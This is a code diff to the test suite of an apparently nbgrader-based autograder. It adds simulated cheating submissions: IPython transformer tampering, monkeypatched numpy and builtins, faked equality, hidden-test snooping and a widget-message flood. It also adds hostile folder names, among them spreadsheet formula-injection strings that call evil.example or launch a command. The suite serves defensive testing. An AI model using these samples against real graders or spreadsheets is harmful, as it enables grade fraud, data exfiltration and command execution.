@@ -11,7 +11,9 @@ tight limits (a 20 s deadline per notebook), and the honest students must keep t
 from __future__ import annotations
 
 import copy
+import csv
 import json
+import os
 import shutil
 import socket
 import sqlite3
@@ -349,6 +351,89 @@ def patches_numpy_checks(c, s):
     c.hand_in(s, c.solved(**{CUBIC: "import numpy as np\nnp.isclose = lambda *a, **k: True\n" + SOLVED_CUBIC}))
 
 
+# ---- routes a security tester found past the first scan (one changed cell each): flagged, never silently paid ----
+
+WRAP_IN_TRY = ("import ast\nclass Quiet(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
+               "        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[ast.ExceptHandler(body=[ast.Pass()])],"
+               " orelse=[], finalbody=[])]\n        return ast.fix_missing_locations(node)\n")
+
+
+@kind(Expect(flag="did not answer the tamper check"))
+def empties_later_cells_through_main(c, s):
+    nb = c.untouched()
+    nb.cells[[i for i, cell in enumerate(nb.cells) if nbgrader_meta(cell).get("grade_id") == DOWNHILL][0]].source = (
+        "import __main__\n__main__.get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")
+    c.hand_in(s, nb)
+
+
+@kind(Expect(flag="changed the AST transformers"))
+def wraps_later_cells_through_the_kernel_app(c, s):
+    c.hand_in(s, c.solved(**{DOWNHILL: WRAP_IN_TRY + "from ipykernel.kernelapp import IPKernelApp\n"
+                                        "IPKernelApp.instance().shell.ast_transformers.append(Quiet())\n"
+                                        "def downhill_direction(slope):\n    return 0\n"}))
+
+
+@kind(Expect(score=WITHOUT_DOWNHILL, flag="partial credit"))
+def buys_partial_credit_with_the_display_hook(c, s):
+    c.hand_in(s, c.solved(**{DOWNHILL: "from ipykernel.kernelapp import IPKernelApp\n"
+                                        "def downhill_direction(slope):\n    IPKernelApp.instance().shell.displayhook(2)\n    return 0\n"}))
+
+
+@kind(Expect(score=WITHOUT_DOWNHILL, flag="partial credit"))
+def buys_partial_credit_with_a_built_name(c, s):
+    c.hand_in(s, c.solved(**{DOWNHILL: "import sys\ndef downhill_direction(slope):\n"
+                                        "    getattr(sys, 'display' + 'hook')(2)\n    return 0\n"}))
+
+
+@kind(Expect(flag="Sly.__eq__"))
+def fakes_equality_after_the_class_body(c, s):
+    c.hand_in(s, c.solved(**{DOWNHILL: "class Sly(int):\n    pass\nSly.__eq__ = lambda self, other: True\n"
+                                        "def downhill_direction(slope):\n    return Sly(7)\n"}))
+
+
+@kind(Expect(flag="__float__"))
+def fakes_a_float_with_type(c, s):
+    c.hand_in(s, c.solved(**{CUBIC: "F = type('F', (float,), dict(__float__=lambda self: 60.0))\n"
+                                    "def slope_of_5x3(x):\n    return F(0)\n"}))
+
+
+@kind(Expect(flag="__array_ufunc__"))
+def sets_array_ufunc_after_the_class_body(c, s):
+    c.hand_in(s, c.solved(**{CUBIC: "import numpy as np\nclass A(np.ndarray):\n    pass\nA.__array_ufunc__ = None\n"
+                                    + SOLVED_CUBIC}))
+
+
+@kind(Expect(flag="module numpy"))
+def patches_numpy_through_its_dict(c, s):
+    c.hand_in(s, c.solved(**{CUBIC: "import numpy as np\nnp.__dict__.update(allclose=lambda *a, **k: True, "
+                                    "isclose=lambda *a, **k: True)\ndef slope_of_5x3(x):\n    return 0 * x\n"}))
+
+
+@kind(Expect(flag="__main__"))
+def shadows_abs_through_main_dict(c, s):
+    c.hand_in(s, c.solved(**{CUBIC: "import __main__\nd = __main__.__dict__\nd['abs'] = lambda x: 0\n"
+                                    "def slope_of_5x3(x):\n    return 0 * x\n"}))
+
+
+@kind(Expect(flag="changed module builtins: abs"))
+def patches_builtins_through_its_dict(c, s):
+    c.hand_in(s, c.solved(**{CUBIC: "import builtins as b\nd = b.__dict__\nd['abs'] = lambda x: 0\n"
+                                    "def slope_of_5x3(x):\n    return 0 * x\n"}))
+
+
+@kind(Expect(score=FULL, flag="linecache"))
+def prints_the_hidden_tests_it_can_find(c, s):
+    c.hand_in(s, c.solved(**{CUBIC: "import linecache, sys\nprint('CACHE', [v[2] for k, v in linecache.cache.items() if 'ipykernel' in k])\n"
+                                    "print('IN', In, _ih)\n"
+                                    "print('LAST', getattr(sys, 'last_traceback', None))\n" + SOLVED_CUBIC}))
+
+
+@kind(Expect(score=BEFORE_CUBIC, flag="bytes of output"))
+def floods_widget_messages(c, s):
+    misbehaves_last(c, s, "import comm\nfor _ in range(10):\n"
+                          "    comm.create_comm(target_name='jupyter.widget', data={'state': {'x': 'y' * 30_000_000}})")
+
+
 # ---- breaking the batch: each is this student's failure, with a clear reason ----
 
 @kind(Expect(failure="JSON"))
@@ -404,6 +489,8 @@ def enormous_notebook(c, s):
 
 
 HONEST = {"good": FULL, "partial": FULL - 2}
+HOSTILE_IDS = ["[g]ood", "*", '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"grades")',
+               "@SUM(1+9)*cmd|' -C calc'!A0"]
 
 
 @dataclass
@@ -433,6 +520,9 @@ def graded(tmp_path_factory) -> Graded:
     c.hand_in("partial", c.solved(**{CUBIC: "def slope_of_5x3(x):\n    return 3 * x ** 2"}))
     for name, (build, _) in KINDS.items():
         build(c, name)
+    for name in HOSTILE_IDS:  # folders that nbgrader would read as patterns, or a spreadsheet as formulas
+        c.hand_in(name, c.solved())
+    os.makedirs(os.path.join(os.fsencode(root / "grading" / "submitted"), b"bad\xff", ASSIGNMENT.encode()))
     try:
         run = batch.run([ASSIGNMENT], root=root, workers=2, progress=False, limits=LIMITS)
     finally:
@@ -489,6 +579,57 @@ def test_honest_students_keep_their_exact_scores(graded, student, score):
     assert graded.scores.get(student) == score
     assert student not in graded.needs_review
     assert not [f for s, _, f in graded.run.flagged if s == student]
+
+
+def test_hidden_tests_never_reach_what_the_student_can_print_or_read(graded):
+    """An answer that prints linecache, In/_ih and the last traceback finds no hidden test; its feedback shows none."""
+    source = read(graded.root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
+    released = "\n".join(c.source for c in read(graded.root / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").cells)
+    from grading.feedback import hidden_lines
+
+    secret = {line for c in source.cells for line in hidden_lines(c.source) if line not in released and len(line) > 12}
+    printed = saw(graded, "prints_the_hidden_tests_it_can_find")
+    assert "CACHE" in printed and "IN" in printed
+    assert not [line for line in secret if line in printed], "hidden-test source reached the student's own output"
+    page = (graded.root / "grading" / "feedback" / "prints_the_hidden_tests_it_can_find" / ASSIGNMENT / f"{ASSIGNMENT}.html")
+    text = visible_text(page.read_text())
+    assert not [line for line in secret if line in text] and "CACHE [" not in text  # the code shows, not its output
+
+
+def test_hostile_folder_names_touch_nobody_and_stop_nothing(graded):
+    """[g]ood and * never regrade good or clear a flag; formula and non-UTF-8 names are refused; the CSV runs no formula."""
+    failures = {s: reason for s, _, reason in graded.run.failures}
+    for name in [*HOSTILE_IDS, "bad\\xff"]:
+        assert "submission folder refused" in failures.get(name, ""), (name, failures.get(name))
+        assert name not in graded.scores
+    assert graded.scores["good"] == FULL and "good" not in graded.needs_review
+    rows = list(csv.reader((graded.root / "grading" / "grades.csv").open(encoding="utf-8")))
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not list((graded.root / "grading").glob(".grades.*"))
+
+
+FLOOD_MEMORY_MB = 600  # every grading process of a run with only the widget flood stays below this
+
+
+def test_widget_flood_is_cut_off_and_the_notebook_stays_small(graded):
+    """Ten 30 MB widget messages: stopped at the output cap, and the autograded notebook stays small."""
+    path = graded.root / "grading" / "autograded" / "floods_widget_messages" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+    assert path.stat().st_size < 2_000_000, path.stat().st_size
+
+
+def test_widget_flood_keeps_the_grader_small(tmp_path):
+    """Graded alone, the widget flood leaves every grading process (worker, kernel) under FLOOD_MEMORY_MB."""
+    require_sandbox()
+    root = tmp_path / "course"
+    shutil.copytree(ROOT / "solutions" / ASSIGNMENT, root / "solutions" / ASSIGNMENT)
+    assert course_api(root).generate_assignment(ASSIGNMENT, force=True, create=True)["success"]
+    c = Class(root, read(root / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
+              read(root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), 0)
+    floods_widget_messages(c, "flood")
+    run = batch.run([ASSIGNMENT], root=root, workers=1, progress=False, limits=LIMITS)
+    assert any("bytes of output" in flag for _, _, flag in run.flagged), run.flagged
+    print(f"\nwidget flood graded alone: peak memory of one grading process {run.peak_rss_mb:.0f} MiB")
+    assert run.peak_rss_mb < FLOOD_MEMORY_MB
 
 
 def test_nothing_outlives_the_batch(graded):
